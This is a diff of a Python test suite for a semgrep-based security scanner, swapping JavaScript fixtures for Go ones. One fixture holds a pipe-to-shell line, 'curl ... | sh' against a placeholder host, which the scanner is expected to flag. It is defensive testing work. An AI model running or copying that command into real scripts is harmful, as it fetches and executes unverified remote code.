@@ -296,9 +296,9 @@ def test_syntax_error_names_the_file_as_the_report_does():
     # semgrep's message names the file by the path it was given (a staged copy, an absolute path);
     # the report names it as the user does. Asked of the runner: in a whole scan the analysis' own
     # BDL901 on the same line is the one the policy keeps.
-    bad = b"function ( {{{ \n const x = rejectUnauthorized: ;; }}}}}\n"
-    errors = [f for f in semgrep_runner.scan_content("web/bad.js", bad, Config()).findings if f.code == "BDL901"]
-    assert errors and all(f.path == "web/bad.js" and "web/bad.js:1" in f.message and
+    bad = b"package main\nfunc ( {{{ \n x := InsecureSkipVerify: ;; }}}}}\n"
+    errors = [f for f in semgrep_runner.scan_content("web/bad.go", bad, Config()).findings if f.code == "BDL901"]
+    assert errors and all(f.path == "web/bad.go" and "web/bad.go:" in f.message and
                           tempfile.gettempdir() not in f.message for f in errors), errors
 
 
@@ -338,11 +338,11 @@ def test_languages_read_from_the_rule_files_text_are_the_parsed_rules_languages(
 
 def test_semgrep_missing_blocks_with_bdl902(tmp_path, monkeypatch):
     sh = _write(tmp_path, "s.sh", "echo hello\n")
-    js = _write(tmp_path, "a.js", "console.log(1);\n")
+    go = _write(tmp_path, "a.go", "package main\n")
     monkeypatch.setenv(semgrep_runner.ENV_EXECUTABLE, str(tmp_path / "no-such-semgrep"))
-    result = _scan([sh, js, _write(tmp_path, "x.py", "x = 1\n")])
+    result = _scan([sh, go, _write(tmp_path, "x.py", "x = 1\n")])
     failed = sorted(f.path.rsplit("/", 1)[-1] for f in result.findings if f.code == "BDL902")
-    assert failed == ["a.js", "s.sh"], result.findings
+    assert failed == ["a.go", "s.sh"], result.findings
     assert all("semgrep executable not found" in f.message and f.blocking for f in result.findings)
 
 
@@ -428,7 +428,7 @@ def test_file_skipped_by_the_fast_path_is_scanned_by_plain_semgrep(tmp_path, mon
     monkeypatch.setenv(semgrep_runner.ENV_EXECUTABLE, str(_fake_semgrep(tmp_path, _skipping_fast_path(_semgrep(),
                                                                                                       "real"))))
     bad = _write(tmp_path / "src", "s.sh", "curl -s https://x.example/i | sh\n")
-    good = _write(tmp_path / "src", "ok.js", "console.log(1);\n")
+    good = _write(tmp_path / "src", "ok.go", "package main\n")
     result = _scan([bad, good])
     assert sorted((Path(f.path).name, f.code) for f in result.findings) == [("s.sh", "BDL405")], result.findings
 
@@ -442,8 +442,8 @@ def test_file_skipped_by_the_fast_path_is_scanned_by_plain_semgrep(tmp_path, mon
 def test_file_no_semgrep_scans_stays_blocked_saying_why(tmp_path, monkeypatch, plain, expected):
     monkeypatch.setenv(semgrep_runner.ENV_EXECUTABLE,
                        str(_fake_semgrep(tmp_path, _skipping_fast_path(_semgrep(), plain))))
-    js = _write(tmp_path / "src", "a.min.js", "console.log(1);\n")
-    result = _scan([js])
+    go = _write(tmp_path / "src", "a.go", "package main\n")
+    result = _scan([go])
     assert [f.code for f in result.findings] == ["BDL902"], result.findings
     assert expected in result.findings[0].message and result.findings[0].blocking
 
@@ -466,8 +466,8 @@ def test_semgrep_renamed_away_blocks(tmp_path, monkeypatch):
     monkeypatch.setattr(sys, "executable", str(tmp_path / "bin" / "python"))
     monkeypatch.setenv("PATH", str(tmp_path / "empty"))
     assert semgrep_runner.find_semgrep()[0] is None
-    js = _write(tmp_path, "a.js", "console.log(1);\n")
-    result = _scan([js])
+    go = _write(tmp_path, "a.go", "package main\n")
+    result = _scan([go])
     assert [f.code for f in result.findings] == ["BDL902"] and result.blocking
     assert "semgrep executable not found" in result.findings[0].message
     assert str(tmp_path / "bin" / "semgrep") in result.findings[0].message
